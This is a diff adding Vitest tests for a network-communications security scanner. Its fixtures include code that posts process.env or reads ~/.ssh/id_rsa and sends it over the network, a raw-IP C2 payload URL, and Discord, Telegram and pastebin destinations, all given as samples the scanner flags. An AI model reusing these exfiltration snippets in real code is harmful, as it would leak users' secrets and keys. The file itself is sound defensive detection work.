@@ -0,0 +1,145 @@
+import { describe, it, expect, beforeEach } from 'vitest';
+import { NetworkCommunicationsScanner } from '../../../lib/scanners/network-communications';
+import { createFile } from '../helpers/repository-files';
+
+describe('NetworkCommunicationsScanner', () => {
+  let scanner: NetworkCommunicationsScanner;
+
+  beforeEach(() => {
+    scanner = new NetworkCommunicationsScanner();
+  });
+
+  it('should have correct scanner properties', () => {
+    expect(scanner.name).toBe('network-communications');
+    expect(scanner.category).toBe('network_communications');
+  });
+
+  describe('network calls', () => {
+    it('should detect global fetch with its destination', async () => {
+      const threats = await scanner.scan([createFile(`
+        fetch('https://example.com/api');
+      `)]);
+
+      const requests = threats.filter(t => t.subcategory === 'network_request');
+      expect(requests).toHaveLength(1);
+      expect(requests[0].details?.api).toBe('fetch');
+      expect(requests[0].details?.destination).toBe('https://example.com/api');
+    });
+
+    it('should detect core module requests through aliases', async () => {
+      const threats = await scanner.scan([createFile(`
+        const h = require('node:https');
+        const { connect } = require('net');
+        import dgram from 'dgram';
+        h.request({ hostname: 'example.com', method: 'POST' });
+        connect(4444, host);
+        dgram.createSocket('udp4');
+      `, 'test.ts')]);
+
+      const requests = threats.filter(t => t.subcategory === 'network_request');
+      expect(requests.map(t => t.details?.callee)).toEqual(['https.request', 'net.connect', 'dgram.createSocket']);
+      expect(requests[0].details?.destination).toBe('example.com');
+      expect(requests[1].details?.isDynamicDestination).toBe(true);
+    });
+
+    it('should detect HTTP client libraries and WebSockets', async () => {
+      const threats = await scanner.scan([createFile(`
+        import axios from 'axios';
+        import got from 'got';
+        import fetchLib from 'node-fetch';
+        import WS from 'ws';
+        axios.post('https://example.com', data);
+        got('https://example.com');
+        fetchLib('https://example.com');
+        new WS('wss://example.com');
+        new WebSocket('wss://example.com');
+      `, 'test.ts')]);
+
+      const apis = threats.filter(t => t.subcategory === 'network_request').map(t => t.details?.api);
+      expect(apis).toEqual(['http_client', 'http_client', 'http_client', 'websocket', 'websocket']);
+    });
+
+    it('should ignore non-network members of network modules', async () => {
+      const threats = await scanner.scan([createFile(`
+        const http = require('http');
+        http.createServer(handler);
+        const codes = http.STATUS_CODES;
+      `)]);
+
+      expect(threats.filter(t => t.subcategory === 'network_request')).toHaveLength(0);
+    });
+  });
+
+  describe('suspicious destinations', () => {
+    it('should flag Discord and Telegram webhooks as CRITICAL', async () => {
+      const threats = await scanner.scan([createFile(`
+        const hook = 'https://discord.com/api/webhooks/123/abc';
+        const bot = \`https://api.telegram.org/bot\${token}/sendMessage\`;
+      `)]);
+
+      const destinations = threats.filter(t => t.subcategory === 'suspicious_destination');
+      expect(destinations.map(t => t.details?.destinationType)).toEqual(['Discord webhook', 'Telegram bot API']);
+      expect(destinations.every(t => t.severity === 'CRITICAL')).toBe(true);
+    });
+
+    it('should flag pastebin URLs', async () => {
+      const threats = await scanner.scan([createFile(`const url = 'https://pastebin.com/raw/abc';`)]);
+
+      expect(threats.some(t => t.details?.destinationType === 'Pastebin')).toBe(true);
+    });
+
+    it('should flag public raw IP addresses but not local ones', async () => {
+      const threats = await scanner.scan([createFile(`
+        const c2 = 'http://45.33.32.156:8080/payload';
+        const host = '185.199.108.153';
+        const local = 'http://127.0.0.1:3000';
+        const lan = '192.168.1.10';
+      `)]);
+
+      const ips = threats.filter(t => t.subcategory === 'raw_ip_address');
+      expect(ips.map(t => t.details?.ipAddress)).toEqual(['45.33.32.156', '185.199.108.153']);
+    });
+  });
+
+  describe('data exfiltration', () => {
+    it('should flag functions that read process.env and send it', async () => {
+      const threats = await scanner.scan([createFile(`
+        function collect() {
+          const data = JSON.stringify(process.env);
+          fetch('https://example.com', { method: 'POST', body: data });
+        }
+      `)]);
+
+      const exfiltration = threats.filter(t => t.subcategory === 'data_exfiltration');
+      expect(exfiltration).toHaveLength(1);
+      expect(exfiltration[0].severity).toBe('CRITICAL');
+      expect(exfiltration[0].details?.function).toBe('collect');
+      expect(exfiltration[0].details?.sources).toEqual(['process.env']);
+      expect(exfiltration[0].details?.sinks).toEqual(['fetch']);
+    });
+
+    it('should flag file reads sent over the network', async () => {
+      const threats = await scanner.scan([createFile(`
+        const fs = require('fs');
+        const https = require('https');
+        const send = () => {
+          const key = fs.readFileSync(home + '/.ssh/id_rsa');
+          https.request({ hostname: 'example.com' }).end(key);
+        };
+      `)]);
+
+      const exfiltration = threats.find(t => t.subcategory === 'data_exfiltration');
+      expect(exfiltration?.details?.sources).toEqual(['fs.readFileSync']);
+      expect(exfiltration?.details?.sinks).toEqual(['https.request']);
+    });
+
+    it('should not combine reads and sends from different functions', async () => {
+      const threats = await scanner.scan([createFile(`
+        function config() { return process.env.PORT; }
+        function ping() { return fetch('https://example.com/health'); }
+      `)]);
+
+      expect(threats.filter(t => t.subcategory === 'data_exfiltration')).toHaveLength(0);
+    });
+  });
+});